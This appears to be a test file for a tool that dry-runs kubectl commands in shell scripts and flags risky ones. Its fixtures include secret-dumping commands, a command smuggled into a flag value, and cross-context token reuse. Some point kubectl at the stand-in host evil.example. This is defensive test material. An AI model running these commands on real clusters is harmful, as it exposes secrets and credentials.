/** No flag of kubectl is accepted that means nothing to the report: each is followed, told, known to change nothing, or refused. */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { kubectlCommands } from '../../../src/kubectl-flags/flags.js';
import { modelledKubectlCommands } from '../../../src/verify/tools/kubectl.js';
import { commandFlagEffects, flagEffect } from '../../../src/verify/tools/kubectl-flag-effects.js';
import { globalFlagEffects } from '../../../src/verify/tools/kubectl-global-flags.js';
import { needs } from '../../support/tools.js';
import { dryRun, marks } from '../bash/dry-run.js';
import { dryRunOf } from '../dry-run.js';

/** The names of `kubectl options`: of 1.24, of 1.27 to 1.33, and of 1.36. */
const since124 =
  'add-dir-header alsologtostderr as as-group as-uid cache-dir certificate-authority client-certificate client-key cluster context insecure-skip-tls-verify kubeconfig log-backtrace-at log-dir log-file log-file-max-size log-flush-frequency logtostderr match-server-version namespace one-output password profile profile-output request-timeout server skip-headers skip-log-headers stderrthreshold tls-server-name token user username v vmodule warnings-as-errors';
const options: Readonly<Record<string, string>> = {
  '1.24': since124,
  '1.27 to 1.33': 'disable-compression',
  '1.36': 'as-user-extra kuberc',
};

/** Only refused: versions that have them are older than those whose flags are known. */
const old =
  /^(add-dir-header|alsologtostderr|log-(backtrace-at|dir|file|file-max-size)|logtostderr|one-output|skip-(log-)?headers|stderrthreshold)$/;

for (const [version, names] of Object.entries(options)) {
  for (const name of names.split(' ')) {
    test(`kubectl options of ${version}: --${name}`, async () => {
      if (!old.test(name)) {
        assert.ok(globalFlagEffects[name] !== undefined, 'its effect is stated');
        return;
      }
      const report = await dryRun(`kubectl get pods --${name}=1`);
      assert.equal(report.verdict, 'not-proved');
    });
  }
}

test('each flag that every command takes has an effect, and nothing else', () => {
  const names = [...(kubectlCommands().get('')?.flags.keys() ?? [])];
  assert.deepEqual(Object.keys(globalFlagEffects).sort(), names.sort());
});

test('each flag of a command with a model has an effect', () => {
  const missing = [...modelledKubectlCommands].flatMap((path) =>
    [...(kubectlCommands().get(path)?.flags.keys() ?? [])]
      .filter((name) => flagEffect(path, name, false) === undefined)
      .map((name) => `${path} --${name}`),
  );
  assert.deepEqual(missing, []);
});

test('each effect is that of a flag', () => {
  const all = [...kubectlCommands()].flatMap(([path, { flags }]) =>
    [...flags.keys()].flatMap((name) => [name, `${path} ${name}`]),
  );
  assert.deepEqual(
    Object.keys(commandFlagEffects).filter((name) => !all.includes(name)),
    [],
  );
});

test('the kubectl at hand takes no other flag everywhere', { skip: needs('kubectl') }, () => {
  const { stdout } = spawnSync('kubectl', ['options'], { encoding: 'utf8' });
  const names = [...stdout.matchAll(/^\s+(?:-., )?--([a-z-]+)=/gm)].map(([, name = '']) => name);
  assert.ok(names.length > 20, stdout);
  assert.deepEqual(
    names.filter((name) => globalFlagEffects[name] === undefined),
    [],
  );
});

/** What is found; a code with `!` is a refusal. */
const found: Readonly<Record<string, readonly string[]>> = {
  'kubectl get pods --insecure-skip-tls-verify': ['KS5003'],
  'kubectl get pods --insecure-skip-tls-verify=true': ['KS5003'],
  'kubectl get pods --insecure-skip-tls-verify=false': [],
  'kubectl get pods "--insecure-skip-tls-verify=$(kubectl get pods)"': ['KS1003!'],
  'kubectl get pods --certificate-authority=ca.crt': ['KS5005'],
  'kubectl get pods --tls-server-name=other': ['KS3203'],
  'kubectl get pods --client-certificate=a.crt --client-key=a.key': ['KS3203', 'KS3203'],
  'kubectl get pods --server=https://evil.example': ['KS3201!'],
  'kubectl get pods -s https://evil.example': ['KS3201!'],
  'kubectl config view --server=https://evil.example': ['KS3201!'],
  'kubectl get pods --token=abcdefghijkl': ['KS3203', 'KS5101', 'KS5107'],
  'kubectl get pods --username=bob --password=abcdefghijkl': ['KS3203', 'KS5101', 'KS5107'],
  'T=$(kubectl create token default --context=lab) || exit; kubectl get pods --context=prod "--token=$T"': [
    'KS3203',
    'KS4101',
    'KS5101',
  ],
  'kubectl get pods --as=bob': ['KS3203'],
  'kubectl get pods --as=bob --as-group=a --as-group=b --as-uid=7': ['KS3203', 'KS3203', 'KS3203', 'KS3203'],
  'kubectl get pods --as=bob --as-user-extra=a=b': ['KS3203', 'KS3203'],
  'kubectl get pods --user=lab-admin': ['KS3203'],
  'kubectl get pods --cluster=prod': ['KS3203'],
  'kubectl config current-context --user=lab-admin --insecure-skip-tls-verify': [],
  'kubectl get pods --kuberc=x': ['KS3201!'],
  'kubectl get pods --cache-dir=cache': [],
  'kubectl get pods --cache-dir=/var/cache/x': ['KS3105'],
  'kubectl get pods --profile=none --profile-output=/etc/x': [],
  'kubectl get pods --profile=cpu': [],
  'kubectl get pods --profile=cpu --profile-output=/etc/x': ['KS3105'],
  'kubectl get pods --request-timeout=5s --match-server-version --warnings-as-errors --disable-compression':
    [],
  'kubectl get pods --log-flush-frequency=1s': [],
  'kubectl get pods --vmodule=round_trippers=9': ['KS3201!'],
  'kubectl get pods -v=8': [],
  'x=$(kubectl get secret x -o jsonpath={.data.token} -v=8)': ['KS5103'],
  'x=$(kubectl get secret x -o name -v 9)': ['KS5103'],
  'x=$(kubectl get secret x -o name -v 5)': [],
  'x=$(kubectl create token default -v=8)': ['KS5103'],
  'kubectl get secret/x -o name "--v=$(kubectl get pods)"': ['KS1003!'],
  "printf 'apiVersion: v1\\nkind: Secret\\nmetadata: {name: a}\\n' | kubectl apply -f - -v=8": [
    'KS3202',
    'KS5103',
  ],
  'kubectl get pod/a secret/b -o yaml': ['KS5103'],
  'kubectl get secret/b pod/a -o yaml': ['KS5103'],
  'kubectl get pod/a pod/b -o yaml': [],
  'kubectl get pod/a secrets.v1./b -o json': ['KS5103'],
  'kubectl get all,secrets -o yaml': ['KS5103'],
  'kubectl get secrets': [],
  'kubectl get secrets -o wide': [],
  'kubectl get secrets -o json': ['KS5103'],
  'kubectl get secrets -o yaml': ['KS5103'],
  'kubectl get secrets -o jsonpath={.items}': ['KS5103'],
  "kubectl get secrets -o jsonpath='{.items[*]}'": ['KS5103'],
  "kubectl get secrets -o jsonpath='{.items[0].data}'": ['KS5103'],
  "kubectl get secrets -o jsonpath='{.items[*].metadata.name}'": [],
  "kubectl get secrets -o jsonpath='{range .items[*]}{.metadata.name}{end}'": [],
  "kubectl get secrets -o jsonpath='{range .items[*]}{.data}{end}'": ['KS5103'],
  "kubectl get secrets -o jsonpath='{range .items[*]}{@}{end}'": ['KS5103'],
  'kubectl get secrets -o custom-columns=A:.data': ['KS3201!', 'KS5103'],
  'kubectl get secrets -o go-template={{.}}': ['KS5103'],
  'kubectl get --raw /api/v1/namespaces/x/secrets/y': ['KS5103'],
  'kubectl get --raw /api/v1/namespaces/x/pods/y': [],
  'kubectl get --raw /api/v1/namespaces/x/pods/../secrets/y': ['KS3201!', 'KS5103'],
  'kubectl get --raw /api/v1/nodes -o yaml': ['KS3201!'],
  'kubectl get pods --raw /api/v1/nodes': ['KS3302!'],
  'kubectl describe secret x': ['KS5103'],
  'kubectl describe pod/a secret/x': ['KS5103'],
  'kubectl describe pod x': [],
  'kubectl apply view-last-applied secret/x': ['KS5103'],
  'kubectl apply view-last-applied pod/x': [],
  'kubectl logs x --insecure-skip-tls-verify-backend': ['KS5003'],
  'kubectl replace --force -f x.yaml': ['KS3202', 'KS3202'],
  'kubectl apply -R -f x': ['KS3201!', 'KS3202'],
};

for (const [text, codes] of Object.entries(found)) {
  test(text, async () => {
    const { findings } = await dryRunOf('bash', `${text}\n`);
    assert.deepEqual(
      findings
        .filter(({ code }) => !/^KS(2104|2002|2203)$/.test(code))
        .map(({ code, notProved }) => `${code}${notProved ? '!' : ''}`)
        .sort(),
      [...codes].sort(),
    );
  });
}

for (const call of ['apply -f', 'create -f', 'replace -f', 'delete -f', 'apply -k', 'delete -k']) {
  test(`kubectl ${call} of an address is not proved, or lists the request`, async () => {
    const report = await dryRun(`kubectl ${call} https://evil.example/x.yaml`);
    assert.ok(
      report.verdict === 'not-proved' ||
        report.requests.some(({ url }) => url === 'https://evil.example/x.yaml'),
    );
  });
}

test('the profile and the cache stand in the report', async () => {
  const { files } = await dryRun('kubectl get pods --profile=cpu --profile-output=F --cache-dir=cache');
  assert.deepEqual(files.map(({ path }) => path).sort(), ['F', 'cache/']);
});

test('whom kubectl acts as stands in the report', async () => {
  const report = await dryRun('kubectl delete pod x --as=bob --as-group=admins');
  assert.deepEqual(marks(report), []);
  const told = report.findings.filter(({ code }) => code === 'KS3203').map(({ message }) => message);
  assert.deepEqual(told, [
    'kubectl acts as user bob (impersonation)',
    'kubectl acts as a member of group admins (impersonation)',
  ]);
});

test('a real kubectl writes a profile where the report says', { skip: needs('kubectl') }, () => {
  const folder = mkdtempSync(join(tmpdir(), 'kubesteps-profile-'));
  const run = (...flags: readonly string[]): readonly string[] => {
    const env = { ...process.env, HOME: folder };
    spawnSync('kubectl', ['version', '--client', ...flags], { cwd: folder, env });
    return readdirSync(folder).filter((name) => !name.startsWith('.'));
  };
  try {
    assert.deepEqual(run('--profile=none', '--profile-output=F'), []);
    assert.deepEqual(run('--profile-output=F'), []);
    assert.deepEqual(run('--profile=cpu', '--profile-output=F'), ['F']);
    assert.deepEqual(run('--profile=heap'), ['F', 'profile.pprof']);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
});
